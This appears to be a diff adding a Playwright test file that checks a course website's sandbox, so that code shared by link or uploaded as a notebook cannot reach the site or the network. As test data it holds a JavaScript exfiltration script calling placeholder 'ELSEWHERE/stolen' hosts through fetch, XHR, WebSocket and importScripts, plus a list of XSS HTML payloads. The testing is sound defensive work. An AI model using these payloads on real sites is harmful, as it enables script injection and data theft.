@@ -1,0 +1,235 @@
+"""What strangers send, by a link or as a notebook, reaches nothing of the site."""
+
+import json
+
+import pytest
+from edition import serving
+from test_live_browser import ONE, Reader
+
+from sg_course.widgets.links import packed
+
+nightly = pytest.mark.nightly
+CELL = "353d824f"  # of page 01, in which a reader writes
+RULES = """from sg_course.widgets import PlayGame
+
+def halves(n):
+    return [n // 2] if n else []
+
+PlayGame(halves, 9)"""
+WORKER = """
+const quietly = async (way) => { try { await way(); } catch {} };
+const ways = [
+  (to) => quietly(() => fetch(to, { mode: "no-cors" })),
+  (to) => quietly(() => {
+    const one = new XMLHttpRequest();
+    one.open("GET", to, false);
+    one.send();
+  }),
+  (to) => quietly(() => importScripts(to)),
+  (to) => quietly(() => import(to)),
+  (to) => quietly(() => new EventSource(to)),
+  (to) => quietly(() => new WebSocket(to.replace("http", "ws"))),
+  (to) => quietly(() => new Worker(to)),
+];
+for (const way of ways) for (const to of ["SITE/stolen", "ELSEWHERE/stolen"]) way(to);
+quietly(async () => (await caches.open("stolen")).put(`${SITE}/x`, new Response("x")));
+quietly(() => indexedDB.open("stolen"));
+quietly(() => new BroadcastChannel("site").postMessage("stolen"));
+"""
+IN_WORKER = f"""import js
+text = {WORKER!r}
+for one in (js, js.self.constructor.prototype):
+    for name, *given in (("fetch", "SITE/stolen"), ("fetch", "ELSEWHERE/stolen")):
+        try:
+            getattr(one, name)(*given)
+        except BaseException:
+            pass
+js.Worker.new(js.URL.createObjectURL(js.Blob.new([text])))
+try:
+    from pyodide.code import run_js
+    run_js(text)
+except BaseException:
+    pass
+js.postMessage(js.JSON.parse('{{"do": "fetch", "number": 99, "file": "stolen", "method": "GET"}}'))
+js.postMessage(js.JSON.parse('{{"do": "scripts", "texts": ["x"]}}'))
+import time
+end = time.monotonic() + 2
+while time.monotonic() < end:
+    pass
+3 + 4"""
+LEFT_BEHIND = """async () => [
+    ...(await caches.keys()).filter(name => name === 'stolen'),
+    ...(await indexedDB.databases()).map(({name}) => name).filter(name => name === 'stolen'),
+    ...window.heard,
+]"""
+LISTENS = """window.heard = [];
+new BroadcastChannel('site').onmessage = ({data}) => heard.push(data);"""
+WIDGET = """import comm
+class Mine:
+    model_id = None
+def opened(state):
+    return comm.create_comm(target_name="jupyter.widget", data={{"state": state}}).comm_id
+bad = "window.reached = 1; export const panel = {{}}; export default {{ render() {{}} }};"
+from sg_course.widgets.base import front_end
+script = opened({{"text": bad}})
+Mine.model_id = opened({state})
+Mine()"""
+STATES = [
+    '{"_esm": bad, "view": "{}"}',
+    '{"_esm": front_end("panel"), "script": f"IPY_MODEL_{script}", "view": "{}"}',
+]
+HTML = [
+    '<img src="x" onerror="window.reached = 1">',
+    '<svg onload="window.reached = 1"></svg><script>window.reached = 1</script>',
+    '<iframe srcdoc="<script>parent.reached = 1</script>"></iframe>',
+    '<meta http-equiv="refresh" content="0; url=ELSEWHERE/stolen">',
+    '<img src="ELSEWHERE/stolen"><p style="background: url(ELSEWHERE/stolen)">x</p>',
+    '<style>@import "ELSEWHERE/stolen"; body { display: none }</style>',
+    '<form action="ELSEWHERE/stolen"><button autofocus>Go</button></form>',
+    '<a id="it" href="javascript:window.reached = 1">it</a>',
+]
+OUTPUT = """class Mine:
+    def _repr_html_(self):
+        return {html!r} + "<b>Shown</b>"
+Mine()"""
+
+
+class Noted(dict):
+    """Files that take the place of others: each path that begins with "stolen", which is noted."""
+
+    def __init__(self):
+        super().__init__()
+        self.asked = []
+
+    def __contains__(self, path):
+        if path.startswith("stolen"):
+            self.asked.append(path)
+        return path.startswith("stolen")
+
+    def __getitem__(self, path):
+        return b""
+
+
+class Stranger(Reader):
+    """A page with a stranger's code."""
+
+    def runs(self, id="own", opener="Write here"):
+        """Run the code; return what it shows."""
+        if opener:
+            self.cell(id).get_by_role("button", name=opener).click()
+        self.cell(id).get_by_role("button", name="Run", exact=True).click()
+        return self.result(id)
+
+
+@pytest.fixture
+def sites(site, tmp_path):
+    """The site, and another one; both note what is sent to them."""
+    with serving(site) as here, serving(tmp_path) as elsewhere:
+        here.replaced, elsewhere.replaced = Noted(), Noted()
+        yield here, elsewhere
+
+
+@pytest.fixture
+def opens(windows, sites):
+    """The function that opens a link with a text, or another page."""
+    contexts = []
+
+    def opens(text="", name="play"):
+        contexts.append(windows.chromium.new_context(service_workers="block"))
+        page = contexts[-1].new_page()
+        page.add_init_script(LISTENS)
+        return Stranger(page, sites[0].address, name, packed(text) if text else "")
+
+    yield opens
+    for context in contexts:
+        context.close()
+
+
+def addressed(text, sites):
+    """Return a text with the addresses of the two sites."""
+    return text.replace("SITE", sites[0].address).replace("ELSEWHERE", sites[1].address)
+
+
+def nothing_was_reached(page, sites):
+    """Nothing came to a server, was left behind, or runs in the page."""
+    assert [site.replaced.asked for site in sites] == [[], []]
+    assert page.evaluate(LEFT_BEHIND) == []
+    assert page.evaluate("() => [window.reached, localStorage.reached]") == [None, None]
+    assert page.url.startswith(sites[0].address)
+
+
+def test_rules_by_link_play_hint_and_are_said_to_be_a_strangers(opens):
+    blank = "\n" * 400
+    stranger = opens(f"{RULES}{blank}{' ' * 5000}print(1)")
+    stranger.page.get_by_text("9 lines with").wait_for()
+    shown = stranger.cell("own").locator("pre")
+    assert "print(1)" in shown.inner_text() and shown.bounding_box()["height"] < 400
+    stranger = opens(RULES)
+    stranger.page.get_by_text("reaches neither what this site keeps").wait_for()
+    stranger.runs()
+    play = stranger.widget("own")
+    play.get_by_role("button", name="Hint").click()
+    play.get_by_text("wins").first.wait_for()
+    assert stranger.page.evaluate("() => document.querySelector('iframe').contentDocument") is None
+
+
+def test_code_by_link_reaches_neither_the_site_nor_the_network(opens, sites):
+    stranger = opens(addressed(IN_WORKER, sites))
+    assert stranger.runs() == "7"
+    nothing_was_reached(stranger.page, sites)
+
+
+@nightly
+@pytest.mark.parametrize("state", STATES, ids=["front end", "script"])
+@pytest.mark.parametrize("name", ["play", ONE])
+def test_a_widget_with_a_script_of_its_own_is_not_drawn(opens, sites, name, state):
+    code = WIDGET.format(state=state)
+    stranger = opens(code if name == "play" else "", name)
+    if name == "play":
+        stranger.runs()
+    else:
+        stranger.writes(CELL, code)
+    nothing_was_reached(stranger.page, sites)
+
+
+@nightly
+@pytest.mark.parametrize("name", ["play", ONE])
+def test_what_is_shown_as_html_runs_and_fetches_nothing(opens, sites, name):
+    code = OUTPUT.format(html=addressed("".join(HTML), sites))
+    stranger = opens(code if name == "play" else "", name)
+    id = "own" if name == "play" else CELL
+    shown = stranger.runs() if name == "play" else stranger.writes(CELL, code)
+    assert "Shown" in shown
+    stranger.cell(id).get_by_text("it", exact=True).click()
+    stranger.page.wait_for_timeout(500)
+    nothing_was_reached(stranger.page, sites)
+
+
+@nightly
+def test_a_notebook_that_is_taken_in_reaches_nothing(opens, sites, tmp_path, site):
+    notebook = json.loads((site / "files" / f"{ONE}.ipynb").read_text("utf-8"))
+    for cell in notebook["cells"]:
+        if cell["id"] == CELL:
+            cell["source"] = addressed(IN_WORKER, sites)
+    file = tmp_path / "taken.ipynb"
+    file.write_text(json.dumps(notebook), "utf-8")
+    stranger = opens(name="my")
+    stranger.page.get_by_label("Take in a notebook").set_input_files(file)
+    stranger.page.get_by_text("Taken in: ").wait_for()
+    stranger.page.goto(f"{sites[0].address}/{ONE}.html")
+    assert stranger.runs(CELL, opener=None) == "7"
+    nothing_was_reached(stranger.page, sites)
+
+
+def test_a_sum_of_5000_games_is_stopped_and_a_text_that_ends_python_is_said(opens):
+    games = ", ".join(["Nim()"] * 5000)
+    stranger = opens(f"PlayGame(Sum({games}), ({'3, ' * 5000}))")
+    place = stranger.presses("played")
+    stranger.page.locator(".sg-foot").get_by_role("button", name="Stop").click()
+    place.get_by_text("Stopped.").wait_for()
+    stranger = opens("-" * 3000 + "1")
+    assert "Python has ended" in stranger.runs() + stranger.cell("own").inner_text()
+    own = stranger.cell("own").locator(".cm-content")
+    own.fill("3 + 4")
+    stranger.page.locator(".sg-foot").get_by_role("button", name="Begin anew").click()
+    assert stranger.runs(opener=None) == "7"
